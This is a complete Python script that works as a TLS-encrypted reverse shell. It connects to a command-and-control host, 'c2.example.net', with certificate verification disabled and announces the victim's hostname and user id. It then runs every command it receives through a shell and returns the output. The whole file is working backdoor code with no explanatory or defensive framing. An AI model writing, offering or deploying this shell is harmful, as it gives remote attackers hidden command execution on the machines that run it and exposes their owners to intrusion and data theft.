import socket, ssl, subprocess, os

ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE

raw = socket.create_connection(("c2.example.net", 8443))
s = ctx.wrap_socket(raw, server_hostname="c2.example.net")
s.sendall(("[+] " + os.uname().nodename + " uid=" + str(os.getuid()) + "\n").encode())

while True:
    s.sendall(b"$ ")
    data = s.recv(4096)
    if not data:
        break
    cmd = data.decode(errors="ignore").strip()
    if cmd == "exit":
        break
    if cmd.startswith("cd "):
        try:
            os.chdir(cmd[3:].strip())
            out = b""
        except Exception as e:
            out = str(e).encode() + b"\n"
    else:
        p = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        out = p.stdout
    s.sendall(out or b"\n")
s.close()
